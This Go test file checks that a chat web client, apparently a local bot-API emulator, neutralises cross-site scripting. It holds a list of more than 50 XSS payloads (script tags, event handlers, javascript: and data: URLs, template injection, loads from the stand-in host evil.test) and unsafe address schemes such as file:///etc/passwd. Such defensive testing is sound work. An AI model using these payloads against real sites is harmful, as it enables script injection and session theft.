package dev

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"testing"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/require"
)

// payloads try to run boom(), to load something from elsewhere, or to leave the page.
var payloads = []string{
	`<script>boom()</script>`,
	`<script src=//evil.test/x.js></script>`,
	`<img src=x onerror=boom()>`,
	`<img src="x" onerror="boom()">`,
	`<svg onload=boom()>`,
	`<svg/onload=boom()>`,
	`<svg><script>boom()</script></svg>`,
	`<svg><animate onbegin=boom() attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:boom()"><text y=20>x</text></a></svg>`,
	`<body onload=boom()>`,
	`<iframe src="javascript:boom()"></iframe>`,
	`<iframe srcdoc="<script>parent.boom()</script>"></iframe>`,
	`<object data="javascript:boom()"></object>`,
	`<embed src="javascript:boom()">`,
	`<a href="javascript:boom()">x</a>`,
	`<a href="jAvAsCrIpT:boom()">x</a>`,
	`<math><mi xlink:href="javascript:boom()">x</mi></math>`,
	`<details open ontoggle=boom()>`,
	`<video><source onerror=boom()></video>`,
	`<audio src=x onerror=boom()>`,
	`<input autofocus onfocus=boom()>`,
	`<select autofocus onfocus=boom()>`,
	`<marquee onstart=boom()>`,
	`<style>@import url(//evil.test/x.css);</style>`,
	`<style>*{background:url(//evil.test/x.png)}</style>`,
	`<link rel=stylesheet href=//evil.test/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.test/">`,
	`<base href=//evil.test/>`,
	`<form action=javascript:boom()><button>x</button></form>`,
	`<button formaction=javascript:boom()>x</button>`,
	`<template><img src=x onerror=boom()></template>`,
	`<noscript><p title="</noscript><img src=x onerror=boom()>">`,
	`<!--><img src=x onerror=boom()>-->`,
	`<![CDATA[><script>boom()</script>]]>`,
	`</textarea><script>boom()</script>`,
	`</title><script>boom()</script>`,
	`</style><script>boom()</script>`,
	`</script><script>boom()</script>`,
	`"><script>boom()</script>`,
	`'><script>boom()</script>`,
	`" onmouseover="boom()" x="`,
	`' onfocus='boom()' autofocus='`,
	"`${boom()}`",
	`${boom()}`,
	`{{constructor.constructor('boom()')()}}`,
	`javascript:boom()`,
	`data:text/html,<script>boom()</script>`,
	`&lt;script&gt;boom()&lt;/script&gt;`,
	`\u003cscript\u003eboom()\u003c/script\u003e`,
	`<scr\0ipt>boom()</scr\0ipt>`,
	`<x id=app><x id=root><x name=location>`,
	`__proto__`,
}

// watched opens the page with a global boom() that tells of each call, and of each violation of the policy.
func watched(t *testing.T, c *command) *tab {
	t.Helper()
	return scripted(t, c, `
		window.harm = [];
		window.boom = () => { window.harm.push('boom'); };
		window.alert = window.boom; window.open = url => { window.harm.push('open ' + url); };
		document.addEventListener('securitypolicyviolation', e => window.harm.push(e.violatedDirective + ' ' + e.blockedURI));
		window.addEventListener('beforeunload', () => localStorage.setItem('left', 'yes'));`)
}

// scripted opens the page, and runs a script before the page's own.
func scripted(t *testing.T, c *command, script string) *tab {
	t.Helper()
	p := newTab(t, "about:blank#1234567890")
	p.run(chromedp.ActionFunc(func(ctx context.Context) error {
		_, err := cdppage.AddScriptToEvaluateOnNewDocument(script).Do(ctx)
		return err
	}))
	p.origin = c.url
	p.navigate(c.url + "/")
	return p
}

func TestBarrage(t *testing.T) {
	t.Parallel()
	require.GreaterOrEqual(t, len(payloads), 50)
	c := start(t)
	b := c.poll(t, func(b *bot, u update) {
		if u.Press != nil {
			_ = b.call("answerCallbackQuery", object{"callback_query_id": u.Press.ID, "text": payloads[2], "show_alert": true}, new(json.RawMessage))
		}
		if u.Inline != nil {
			results := make([]object, 0, 20)
			for i, x := range payloads[:20] {
				results = append(results, object{"type": "article", "id": strconv.Itoa(i), "title": x, "description": x, "input_message_content": object{"message_text": x}})
			}
			_ = b.call("answerInlineQuery", object{"inline_query_id": u.Inline.ID, "results": results}, new(json.RawMessage))
		}
	})
	c.api("POST", c.bot()+fmt.Sprintf("/users/%d/start", c.you()), object{}, nil)
	you := c.you()
	say := func(method string, params object) { _ = b.call(method, params, new(json.RawMessage)) }
	for i, x := range payloads {
		say("sendMessage", object{"chat_id": you, "text": "m" + x})
		say("sendMessage", object{"chat_id": you, "text": x, "entities": []object{
			{"type": []string{"bold", "pre", "code", "blockquote", "spoiler", "custom_emoji", "text_link", "text_mention"}[i%8], "offset": 0, "length": len(x), "url": "javascript:boom()", "language": x, "custom_emoji_id": "1"},
			{"type": "text_link", "offset": 0, "length": 1, "url": x},
		}})
		say("sendMessage", object{"chat_id": you, "text": "b" + x, "reply_markup": object{"inline_keyboard": [][]object{{{"text": x, "callback_data": strconv.Itoa(i)}, {"text": x, "copy_text": object{"text": x}}}}}})
		say("sendMessage", object{"chat_id": you, "text": "u", "reply_markup": object{"inline_keyboard": [][]object{{{"text": x, "url": "javascript:boom()"}}}}})
		say("sendContact", object{"chat_id": you, "phone_number": x, "first_name": x, "last_name": x})
		say("sendVenue", object{"chat_id": you, "latitude": 1, "longitude": 1, "title": x, "address": x})
		say("sendPoll", object{"chat_id": you, "question": x, "options": []string{x, "y" + x}})
		say("sendInvoice", object{"chat_id": you, "title": x[:min(len(x), 32)], "description": x, "payload": x, "currency": "XTR", "prices": []object{{"label": x, "amount": 1}}})
		b.try("sendDocument", map[string]string{"chat_id": strconv.FormatInt(you, 10), "caption": x}, map[string]part{"document": {x, []byte(x)}})
		c.try("POST", "/api/users", object{"name": x})
		c.try("POST", c.bot()+"/chats", object{"type": "group", "title": x, "bot": "administrator"})
		c.try("POST", c.chat(you)+"/messages", object{"text": "o" + x})
	}
	say("sendMessage", object{"chat_id": you, "text": "keys", "reply_markup": object{"keyboard": [][]object{{{"text": payloads[0]}, {"text": payloads[2]}}}, "input_field_placeholder": payloads[40]}})
	say("setMyCommands", object{"commands": []object{{"command": "x", "description": payloads[3]}}})
	say("setMyName", object{"name": payloads[4]})
	say("setMyDescription", object{"description": payloads[5]})
	// Files that a browser could run.
	for name, content := range map[string]string{"a.html": payloads[0], "a.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="boom()"><script>boom()</script></svg>`} {
		b.try("sendDocument", map[string]string{"chat_id": strconv.FormatInt(you, 10)}, map[string]part{"document": {name, []byte(content)}})
	}
	say("sendMessage", object{"chat_id": you, "text": "the end", "reply_markup": object{"inline_keyboard": [][]object{{{"text": payloads[1], "callback_data": "end"}}}}})

	p := watched(t, c)
	p.waitText(".message .text", "the end")
	p.press(kb.Escape)
	p.press("i")
	p.wait("document.querySelector('aside.inspector')")
	// Through the whole chat, with each spoiler opened; each payload must be seen as what it is.
	first := b.got("the start", func(u update) bool { return u.Message != nil && u.Message.Text == "/start" }).Message.ID
	eval[bool](p, fmt.Sprintf(`(async () => {
		window.seen = '';
		const box = document.querySelector('.scroller');
		for (let ended = false; !ended;) {
			ended = Number(document.querySelector('[data-message]').dataset.message) <= %d;
			for (const s of document.querySelectorAll('.spoiler:not(.seen)')) s.click();
			window.seen += document.querySelector('.messages').textContent;
			box.scrollTop = 0;
			await new Promise(r => setTimeout(r, 60));
		}
		return true;
	})()`, first))
	seen := eval[string](p, "window.seen")
	for _, x := range payloads {
		require.Contains(t, seen, "m"+x)
		require.Contains(t, seen, "o"+x)
	}
	p.click(".to-end", "")
	p.waitText(".message .text", "the end")
	p.click(".inline-button", payloads[1])
	p.waitText("dialog .alert-text", payloads[2])
	p.press(kb.Escape)
	p.wait("!document.querySelector('dialog')")
	p.click(".user-button", "")
	p.waitText(".menu", payloads[0])
	p.press(kb.Escape)
	p.wait("document.querySelectorAll('.chat-row').length > 50")
	p.click(".chat-row", payloads[2])
	p.waitText(".chat-title", payloads[2])
	p.click(".chat-title", "")
	p.waitText("dialog", payloads[2])
	p.press(kb.Escape)
	p.wait("!document.querySelector('dialog')")
	for _, href := range eval[[]string](p, "[...document.querySelectorAll('a')].map(a => a.href)") {
		require.Regexp(t, `^(https?|mailto|tel):`, href)
	}

	require.Empty(t, eval[[]string](p, "window.harm"), "something ran, or the policy had to stop it")
	require.Equal(t, c.url, eval[string](p, "location.origin"))
	require.True(t, eval[bool](p, "localStorage.getItem('left') === null"), "the page was left")
	require.Equal(t, 0, eval[int](p, "document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app style, #app base, #app meta, #app form[action]').length"))
	_, external := p.troubles()
	require.Empty(t, external)
}

// A file of a bot is no page: it is saved, or shown without rights.
func TestFilesRunNothing(t *testing.T) {
	t.Parallel()
	c := start(t)
	b := c.poll(t, nil)
	c.api("POST", c.bot()+fmt.Sprintf("/users/%d/start", c.you()), object{}, nil)
	var sent struct {
		Messages []message
	}
	b.try("sendDocument", map[string]string{"chat_id": strconv.FormatInt(c.you(), 10)}, map[string]part{"document": {"a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="boom()"><script>boom()</script></svg>`)}})
	c.api("GET", c.chat(c.you())+"/messages", nil, &sent)
	file := sent.Messages[len(sent.Messages)-1].Document
	require.NotNil(t, file)
	p := watched(t, c)
	p.wait("document.querySelector('.document')")
	for _, query := range []string{"", "?inline=1"} {
		path := c.bot() + "/files/" + file.ID + query
		headers := eval[map[string]string](p, fmt.Sprintf("fetch(%s).then(r => Object.fromEntries(r.headers))", quote(path)))
		require.Equal(t, "nosniff", headers["x-content-type-options"])
		require.Contains(t, headers["content-disposition"], "attachment")
		require.Contains(t, headers["content-security-policy"], "sandbox")
	}
}

// The page follows no address that could run something, whatever the command lets through.
func TestAddressesToFollow(t *testing.T) {
	t.Parallel()
	p := watched(t, start(t))
	followed := func(address string) string {
		return eval[string](p, fmt.Sprintf("import('/page/entities.js').then(m => String(m.safeUrl(%s)))", quote(address)))
	}
	for _, address := range []string{"javascript:boom()", " JaVaScRiPt:boom()", "java\tscript:boom()", "\x01javascript:boom()", "data:text/html,<script>boom()</script>", "vbscript:x", "blob:http://a/b", "file:///etc/passwd", "tg://resolve", "http://", ""} {
		require.NotRegexp(t, `(?i)^(java|data|vb|blob|file|tg)`, followed(address), "%q", address)
	}
	require.Equal(t, "null", followed("javascript:boom()"))
	require.Equal(t, "https://example.org/a", followed("example.org/a"))
	require.Equal(t, "http://127.0.0.1:8080/", followed("http://127.0.0.1:8080"))
}
